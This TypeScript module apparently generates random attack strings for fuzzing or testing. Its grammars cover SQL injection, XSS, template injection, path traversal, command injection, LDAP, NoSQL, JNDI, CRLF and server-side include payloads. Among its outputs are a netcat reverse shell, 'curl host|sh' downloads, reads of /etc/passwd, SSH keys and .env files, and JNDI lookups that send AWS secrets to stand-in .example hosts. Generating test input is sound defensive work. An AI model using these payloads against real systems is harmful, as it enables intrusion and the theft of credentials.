import type { Random } from './random'

/**
 * Small grammars of attack texts with random parts: no list of known payloads, and hardly ever the same text twice.
 */

/** Identifiers as developers of other people's databases choose them. */
function identifier (random: Random): string {
  return random.pick(['users', 'accounts', 'information_schema.tables', 'members', 'customer', 'admin', 'orders', 'sysobjects', 'mysql.user', 'all_tables', 'products', `t${random.between(1, 99)}`, `${random.text('abcdefgh', 5)}_${random.text('lmnopq', 4)}`])
}

function cased (random: Random, text: string): string {
  const way = random.int(4)
  if (way === 0) return text.toLowerCase()
  return way === 1 ? [...text].map((letter) => random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase()).join('') : text
}

function spaced (random: Random, text: string): string {
  return random.chance(0.75) ? text : text.replaceAll(' ', random.pick(['/**/', '\t', '  ', '\n', '+', `/*${random.text('xyz', 3)}*/`]))
}

export function sqli (random: Random): string {
  const quote = random.pick(["'", "'", "'", '"', "')", '")', '', ')', "'))"])
  const n = random.between(1, 9999)
  const end = random.pick(['-- ', '--', '#', '/*', ';--', '', '-- -'])
  const columns = Array.from({ length: random.between(1, 7) }, () => random.pick(['NULL', String(n), 'password', '@@version', 'login', `CHAR(${random.between(48, 120)})`, `'${random.text('abc', 2)}'`])).join(',')
  const body = random.pick([
    () => `${quote} OR ${n}=${n}`,
    () => `${quote} OR ${quote === '"' ? '"' : "'"}${random.text('abcxyz', 1)}${quote === '"' ? '"="' : "'='"}${random.text('abcxyz', 1)}`,
    () => `${quote} UNION ${random.chance(0.4) ? 'ALL ' : ''}SELECT ${columns} FROM ${identifier(random)}`,
    () => `${quote}; DROP TABLE ${identifier(random)}`,
    () => `${quote}; INSERT INTO ${identifier(random)} VALUES (${n},'${random.text('abcdef', 4)}')`,
    () => `${quote} AND SLEEP(${random.between(3, 20)})`,
    () => `${quote}; WAITFOR DELAY '0:0:${random.between(3, 20)}'`,
    () => `${quote} AND ${n}=(SELECT COUNT(*) FROM ${identifier(random)})`,
    () => `${quote} AND ASCII(SUBSTRING((SELECT password FROM ${identifier(random)} LIMIT 1),${random.between(1, 20)},1))>${random.between(32, 126)}`,
    () => `${quote} ORDER BY ${random.between(1, 40)}`,
    () => `${quote}||(SELECT pg_sleep(${random.between(2, 15)}))||${quote}`,
    () => `${n}${quote} AND EXTRACTVALUE(1,CONCAT(0x${random.hex(2)},(SELECT ${random.pick(['user()', 'database()', 'version()'])})))`,
    () => `${quote} HAVING ${n}>${n}`,
    () => `${n} RLIKE (SELECT (CASE WHEN (${n}=${n}) THEN ${n} ELSE 0x28 END))`
  ])()
  return spaced(random, cased(random, `${random.chance(0.5) ? random.between(1, 999) : random.text('abcdefgh', random.int(4))}${body}`)) + end
}

export function xss (random: Random): string {
  const call = random.pick(['alert', 'prompt', 'confirm', 'eval', 'document.write', 'fetch'])
  const argument = random.pick(['1', 'document.cookie', `'${random.text('abcxyz', 4)}'`, `String.fromCharCode(${random.between(65, 90)},${random.between(65, 90)})`, '`x`', 'document.domain'])
  const script = `${call}(${argument})`
  const event = random.pick(['onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'ontoggle', 'onpointerenter'])
  const tag = random.pick(['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=1', 'iframe', `a${random.between(1, 9)}`])
  const body = random.pick([
    () => `<${cased(random, 'script')}>${script}</${cased(random, 'script')}>`,
    () => `<${tag} ${event}=${script}>`,
    () => `<${tag}/${event}="${script}">`,
    () => `<script src=//${random.text('abcdefgh', 6)}.example/${random.text('xyz', 2)}.js></script>`,
    () => `javascript:${script}`,
    () => `<a href="javascript:${script}">${random.text('abc', 3)}</a>`,
    () => `';${script};//`,
    () => `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;">`,
    () => `<style>@import '//${random.text('abcd', 5)}.example/x.css';</style>`,
    () => `<math><mtext></form><form><mglyph><style></math><${tag} ${event}=${script}>`
  ])()
  return random.pick(['', '', '">', "'>", '</title>', '</textarea>', '-->']) + body
}

export function ssti (random: Random): string {
  const [a, b] = [random.between(2, 99), random.between(2, 99)]
  return random.pick([
    `{{${a}*${b}}}`, `\${${a}*${b}}`, `<%= ${a}*${b} %>`, `#{${a}*${b}}`, `*{${a}*${b}}`, `{{config.items()}}${a}`, `{{''.__class__.__mro__[${a % 4}].__subclasses__()}}`,
    `\${T(java.lang.Runtime).getRuntime().exec('${random.pick(['id', 'ls', 'whoami'])}')}`, `{{request.application.__globals__.__builtins__.__import__('os').popen('${random.pick(['id', 'uname -a'])}').read()}}`, `{%25 if ${a} %25}${b}{%25 endif %25}`, `@(${a}+${b})`
  ])
}

export function traversal (random: Random): string {
  const step = random.pick(['../', '../', '..\\', '..%2f', '%2e%2e/', '....//', '..;/', '..%5c', '%252e%252e%252f'])
  const target = random.pick(['etc/passwd', 'etc/shadow', 'windows/win.ini', 'proc/self/environ', 'var/log/auth.log', 'app/.env', 'boot.ini', 'etc/hosts', `home/${random.text('abcdef', 4)}/.ssh/id_rsa`])
  return random.pick(['', '', '', '/', 'file://', 'php://filter/convert.base64-encode/resource=']) + step.repeat(random.between(2, 10)) + target + random.pick(['', '', '', '%00', '\0.png', '?'])
}

export function command (random: Random): string {
  const host = `${random.text('abcdefghij', 6)}.example`
  const run = random.pick(['id', 'whoami', 'cat /etc/passwd', `wget http://${host}/${random.text('xyz', 2)}.sh`, `curl ${host}|sh`, `ping -c ${random.between(1, 30)} 127.0.0.1`, `nc -e /bin/sh ${random.between(1, 250)}.${random.int(256)}.2.${random.int(256)} ${random.between(1000, 9999)}`, 'uname -a', 'ls -la /', `sleep ${random.between(2, 30)}`, 'type C:\\boot.ini'])
  return random.pick(['', random.text('abc', 2), String(random.between(1, 99))]) + random.pick([`;${run}`, `| ${run}`, `&& ${run}`, `\`${run}\``, `$(${run})`, `|| ${run}`, `\n${run}`, `;${run};`, `& ${run} &`])
}

export function ldap (random: Random): string {
  const attribute = random.pick(['uid', 'cn', 'mail', 'userPassword', 'objectClass', 'sn'])
  return random.pick([`*)(${attribute}=*`, `*)(|(${attribute}=*))`, `${random.text('abc', 3)}*)(&(${attribute}=${random.text('xyz', 2)}*)`, `*))(|(${attribute}=*`, `)(!(${attribute}=${random.text('abc', 3)}))(`, `${random.text('abc', 3)})(${attribute}>=${random.between(0, 99)}))%00`])
}

export function nosql (random: Random): string {
  const operator = random.pick(['$ne', '$gt', '$regex', '$where', '$exists', '$nin', '$or'])
  const n = random.between(1, 99)
  return random.pick([`{"${operator}":""}`, `{"${operator}":${n}}`, `'||'${n}'=='${n}`, `';return true;var a='${random.text('abc', 2)}`, `{"$where":"this.${random.pick(['password', 'email'])}.length>${n}"}`, `[${operator}]=${n}`, `'; sleep(${n * 100}); '`, `true, $where: '${n} == ${n}'`])
}

export function jndi (random: Random): string {
  const target = `${random.text('abcdefghijkl', 7)}.${random.pick(['example', 'example.net', 'example.org'])}${random.chance(0.4) ? `:${random.pick([1389, 389, 1099, 8080])}` : ''}/${random.text('abcdefgh', random.between(1, 6))}`
  const scheme = random.pick(['ldap', 'ldaps', 'rmi', 'dns', 'iiop'])
  return random.pick([
    `\${jndi:${scheme}://${target}}`, `\${\${lower:j}ndi:${scheme}://${target}}`, `\${\${::-j}\${::-n}\${::-d}\${::-i}:${scheme}://${target}}`, `\${jndi:${scheme}://\${env:${random.pick(['AWS_SECRET_ACCESS_KEY', 'USER', 'HOSTNAME'])}}.${target}}`,
    `\${jnd\${upper:i}:${scheme}://${target}}`, `\${\${env:NaN:-j}ndi\${env:NaN:-:}${scheme}://${target}}`
  ])
}

export function crlf (random: Random): string {
  return `${random.text('abcdef', random.int(4))}\r\n${random.pick([`Set-Cookie: ${random.text('abcdef', 5)}=${random.hex(8)}`, `Location: http://${random.text('abcdef', 6)}.example/`, 'Content-Length: 0\r\n\r\nHTTP/1.1 200 OK', `X-${random.text('abcd', 4)}: ${random.between(1, 99)}`])}`
}

export function serverSideInclude (random: Random): string {
  return random.pick([`<!--#exec cmd="${random.pick(['ls', 'id', 'cat /etc/passwd', 'dir'])}"-->`, `<!--#include file="${random.pick(['/etc/passwd', 'web.config', '../conf/users.xml'])}"-->`, `<!--#echo var="${random.pick(['DOCUMENT_ROOT', 'DATE_LOCAL', 'HTTP_USER_AGENT'])}"-->`, '<!--#printenv-->'])
}

export const grammars = { sqli, xss, ssti, traversal, command, ldap, nosql } as const
